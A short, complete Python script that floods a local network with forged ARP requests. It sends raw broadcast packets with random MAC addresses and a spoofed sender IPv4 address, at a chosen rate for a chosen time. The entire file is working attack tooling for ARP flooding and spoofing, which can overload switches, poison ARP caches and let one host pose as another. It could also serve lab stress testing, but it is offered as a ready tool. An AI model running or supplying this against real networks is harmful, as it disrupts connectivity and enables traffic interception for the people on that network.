"""ARP requests from link addresses drawn at random: arpflood.py DEVICE SENDER TARGET RATE SECONDS. `SENDER`: whose IPv4
address they claim, A.B.C.D; A.B.C. draws the last part too."""
import os
import socket
import sys
import time


def main(device, sender, target, rate, seconds):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((device, 0))
    began, sent = time.monotonic(), 0
    while (now := time.monotonic()) - began < float(seconds):
        while sent < (now - began) * int(rate):
            mac = b"\x02" + os.urandom(5)
            own = sender + str(2 + os.urandom(1)[0] % 250) if sender.endswith(".") else sender
            sock.send(b"\xff" * 6 + mac + b"\x08\x06\0\x01\x08\0\x06\x04\0\x01" + mac + socket.inet_aton(own) +
                      b"\0" * 6 + socket.inet_aton(target) + b"\0" * 18)
            sent += 1
        time.sleep(0.001)


main(*sys.argv[1:])
